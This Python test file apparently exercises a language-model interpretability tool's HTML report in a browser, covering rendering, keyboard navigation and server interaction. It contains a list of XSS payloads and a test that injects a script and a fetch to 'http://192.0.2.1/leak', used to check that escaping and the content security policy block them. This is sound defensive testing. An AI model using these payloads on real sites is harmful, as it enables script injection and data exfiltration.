"""The page in a real browser: as a file without network, and over a model that runs behind it."""

import copy
import json
import re

import pytest
from browsing import open_report, percent, serving

from saved_model import LINES
from tokenformer.errors import UserError
from tokenformer.interpret.explain import explain_text
from tokenformer.interpret.explorer import build_app
from tokenformer.interpret.page import embedded, report, write_page

EVIL = [
    "</script><script>window.hacked = 1</script>",
    '<img src=x onerror="window.hacked = 1">',
    '<a href="javascript:window.hacked=1">click</a>',
    "<b>bold</b>&lt;i&gt;\u2028\u202edesrever",
    "{{7*7}}<!--${payload}'\"",
]


@pytest.fixture(scope="module")
def payload(small):
    _, model, tokenizer, index = small
    return explain_text(model, tokenizer, LINES[0], ablations=5, index=index)


@pytest.fixture
def opened(tab, payload, tmp_path):
    """The report of a payload in the browser."""

    return lambda changed=None: open_report(tab, changed or payload, tmp_path)


@pytest.fixture(scope="module")
def address(small):
    _, model, tokenizer, index = small
    with serving(build_app(model, tokenizer, index)) as url:
        yield url


def bars(tab):
    """Texts beside the bars of what comes next."""
    return tab.locator("#main .js-plotly-plot").first.locator(".bartext").all_text_contents()


# The payload within the page


def test_nothing_embedded_is_markup():
    found = embedded({"texts": EVIL, "number": float("nan"), "list": [float("inf"), 1.5]})
    assert not re.search("[<>&\u2028\u2029]", found)
    assert json.loads(found) == {"texts": EVIL, "number": None, "list": [None, 1.5]}


def test_report_refers_to_nothing_outside(payload):
    page = report(payload)
    head, _, rest = page.partition('id="payload">')
    assert "$" not in head.split("<script")[0]
    assert not re.findall(r"<(?:script|link|img|iframe)[^>]*(?:src|href)=(?!\"data:)", head + rest)
    assert "unsafe-eval" not in head
    assert "script-src 'sha256-" in head


def test_folder_that_does_not_exist(payload, tmp_path):
    with pytest.raises(UserError, match=r"there is no folder '.*absent' for page.html"):
        write_page(payload, tmp_path / "absent" / "page.html")


# The report


def test_report_shows_the_payload_and_asks_for_nothing(opened, payload):
    tab = opened()
    focus = payload["position"]
    assert tab.locator("[role=option]").count() == len(payload["text"]["pieces"])
    assert tab.locator("[role=option][aria-selected=true]").get_attribute("aria-label").startswith(f"{focus}: ")
    expected = [percent(one["probability"]) for one in payload["positions"][focus]["predictions"]]
    assert bars(tab) == expected
    rows = tab.locator("tr[data-address]")
    addresses = [rows.nth(i).get_attribute("data-address") for i in range(5)]
    assert addresses == [entry["address"] for entry in payload["attribution"][:5]]
    for note in payload["notes"]:
        assert tab.get_by_text(note).is_visible()
    assert len(tab.requests) == 1
    assert tab.requests[0].startswith("file:")
    assert tab.errors == []
    assert tab.evaluate("refused") == []  # plotly needs nothing that the policy forbids


def test_switching_a_token_off_shows_what_was_measured(opened, payload):
    tab = opened()
    address = payload["attribution"][1]["address"]
    tab.click(f"tr[data-address='{address}']")
    tab.click("#switch")
    found = payload["ablations"][address]
    after = found["positions"][payload["position"]]["predictions"]
    shown = bars(tab)
    assert percent(after[0]["probability"]) in shown
    effect = tab.locator("#effect").inner_text()
    assert f"{payload['loss']:.3f} → {found['loss']:.3f} nats" in effect
    assert effect in tab.locator("#status").inner_text()
    tab.click("#switch")
    assert tab.locator("#effect").count() == 0
    unmeasured = next(e["address"] for e in payload["attribution"] if e["address"] not in payload["ablations"])
    tab.click(f"tr[data-address='{unmeasured}']")
    assert tab.locator("#switch").is_disabled()
    assert "tokenformer explore" in tab.locator("#why").inner_text()


def test_another_position_and_a_context(opened, payload):
    tab = opened()
    tab.locator("[role=option]").nth(2).click()
    assert bars(tab) == [percent(one["probability"]) for one in payload["positions"][2]["predictions"]]
    context = tab.locator("ul.contexts button").first
    assert context.get_attribute("aria-expanded") == "false"
    context.click()
    card = payload["tokens"][payload["attribution"][0]["address"]]["contexts"][0]
    assert context.get_attribute("aria-expanded") == "true"
    assert card["before"][-8:].strip() in tab.locator("ul.contexts .whole").first.inner_text()


def test_text_of_the_payload_is_shown_and_not_run(opened, payload):
    bad = copy.deepcopy(payload)
    for i, text in enumerate(EVIL):
        bad["text"]["pieces"][i] = text
        bad["positions"][bad["position"]]["predictions"][i]["piece"] = text
        bad["notes"].append(text)
        card = bad["tokens"][bad["attribution"][0]["address"]]
        card["contexts"].append({"before": text, "token": text, "after": text, "weight": 1.0})
        (card["promotes"] or card["nearest"])[i][0] = text
    bad["model"]["name"] = EVIL[1]
    bad["target"]["piece"] = EVIL[2]
    tab = opened(bad)
    for button in tab.locator("ul.contexts button").all():
        button.click()
    tab.locator("[role=option]").first.hover()
    assert EVIL[1] in tab.locator("[role=listbox]").inner_text()
    labels = tab.locator("#main .js-plotly-plot").first.locator(".yaxislayer-above").text_content()
    assert "<a·href=" in labels
    assert "<b>bold</b>&lt;" in labels  # neither a tag nor an entity
    assert tab.evaluate("window.hacked") is None
    assert tab.evaluate("document.querySelectorAll('#main a, #main img, #main script, #main b b').length") == 0
    assert "\u202e" not in tab.locator("#main").inner_text()  # would turn what stands beside it
    assert len(tab.requests) == 1
    assert tab.errors == []


def test_policy_forbids_foreign_scripts_and_requests(opened):
    tab = opened()
    tab.evaluate(
        """() => {
            const script = document.createElement('script');
            script.textContent = 'window.hacked = 1';
            document.body.append(script);
            const image = document.createElement('img');
            image.src = 'http://192.0.2.1/leak';
            document.body.append(image);
            fetch('http://192.0.2.1/leak').catch(() => null);
        }"""
    )
    tab.wait_for_function("refused.length === 3")
    assert tab.evaluate("window.hacked") is None


def test_keyboard_alone(opened, payload):
    tab = opened()
    key = tab.keyboard.press

    def tab_to(selector):
        for _ in range(30):
            key("Tab")
            if tab.evaluate("(s) => document.activeElement.matches(s)", selector):
                return
        raise AssertionError(f"no way to {selector} by Tab")

    tab_to("[role=option]")
    key("Home")
    key("ArrowRight")
    assert tab.evaluate("document.activeElement.getAttribute('aria-label')").startswith("1: ")
    assert bars(tab) == [percent(one["probability"]) for one in payload["positions"][1]["predictions"]]
    key("End")
    tab_to("tr[data-address]")
    key("ArrowDown")
    key("Enter")
    address = payload["attribution"][1]["address"]
    assert tab.evaluate("document.activeElement.tagName") == "H2"
    assert tab.locator(".card code").first.inner_text() == address
    tab_to("#switch")
    key("Enter")
    assert tab.locator("#effect").is_visible()
    key("Escape")
    assert tab.evaluate("document.activeElement.dataset.address") == address


def test_damaged_page_says_so(tab, payload, tmp_path):
    file = tmp_path / "page.html"
    file.write_text(report({**payload, "positions": None}), encoding="utf-8")
    tab.goto(file.as_uri())
    assert "could not be drawn" in tab.locator("#message").inner_text()


# With a model behind it


def test_explore_a_text_a_token_and_a_change(tab, address, small):
    _, model, tokenizer, _ = small
    tab.goto(address)
    tab.fill("#given", LINES[0])
    tab.get_by_role("button", name="Explain", exact=True).click()
    tab.wait_for_selector("[role=listbox]")
    expected = explain_text(model, tokenizer, LINES[0])
    focus = expected["position"]
    assert bars(tab) == [percent(one["probability"]) for one in expected["positions"][focus]["predictions"]]
    last = expected["attribution"][30]["address"]  # no report measures it
    tab.click(f"tr[data-address='{last}']")
    tab.click("#switch")
    tab.wait_for_selector("#effect")
    before = tab.locator("#effect").inner_text()
    assert "perplexity" in before
    tab.locator("#factor").focus()
    tab.keyboard.press("End")  # instead of off
    tab.wait_for_function("(old) => document.getElementById('effect').innerText !== old", arg=before)
    assert "scale" in tab.locator(".chips").inner_text()
    tab.locator(".chips button").click()
    tab.wait_for_selector("#effect", state="detached")
    tab.locator("[role=option]").nth(1).click()
    tab.wait_for_selector("[role=option].focus:nth-child(2)")
    assert tab.evaluate("refused") == []
    assert {url.split("/")[2] for url in tab.requests} == {address.split("/")[2]}


def test_explore_all_tokens(tab, address, small):
    index = small[3]
    layer, segment = "model.layers.0.ffn", "base"
    tab.goto(address)
    tab.wait_for_selector("tr[data-address]")
    tab.select_option("label:has-text('Layer') select", layer)
    best = int(index.statistics(layer, segment)["max"].argmax())
    row = tab.locator(f"tr[data-address='{layer}/{segment}/{best}']")
    row.wait_for()
    row.click()
    tab.wait_for_selector(f".card code:has-text('{layer}/{segment}/{best}')")
    tab.get_by_role("button", name="Next", exact=True).click()
    tab.wait_for_selector("text=26 to 30 of 30")


def test_bad_input_is_a_message_in_the_page(tab, address):
    tab.goto(address)
    tab.get_by_role("button", name="Explain", exact=True).click()
    message = tab.locator("#message")
    message.get_by_text("the text is empty").wait_for()
    tab.fill("#given", "fox " * 500)
    tab.keyboard.press("Control+Enter")
    message.get_by_text("tokens").wait_for()
    tab.route("**/api/**", lambda route: route.abort())
    tab.fill("#given", "fox")
    tab.get_by_role("button", name="Explain", exact=True).click()
    message.get_by_text("The server does not answer").wait_for()
    assert tab.locator("h1").is_visible()
    assert tab.errors == []


# Two models


def test_lineage_report(tab, small, tmp_path):
    from tokenformer.interpret.lineage import compare_lineage

    folder, model, tokenizer, _ = small
    found = compare_lineage(model, model, tokenizer, [folder.parent / "corpus.txt"], contexts=2, progress=False)
    found["changed"][0]["after"][0]["after"] = EVIL[1]
    found["data"]["name"] = EVIL[1]
    write_page(found, tmp_path / "page.html")
    tab.goto((tmp_path / "page.html").as_uri())
    tab.wait_for_selector("#main .js-plotly-plot")
    row = tab.locator("tr[data-address]").first
    row.focus()
    tab.keyboard.press("Enter")
    assert tab.locator(".card code").inner_text() == found["changed"][0]["address"]
    assert tab.locator(".card ul.contexts button").count() == sum(
        len(found["changed"][0][w]) for w in ("before", "after")
    )
    assert tab.locator("#head").get_by_text(EVIL[1]).is_visible()
    assert tab.evaluate("[window.hacked, refused.length, document.images.length]") == [None, 0, 0]
    assert tab.errors == []
    assert len(tab.requests) == 1
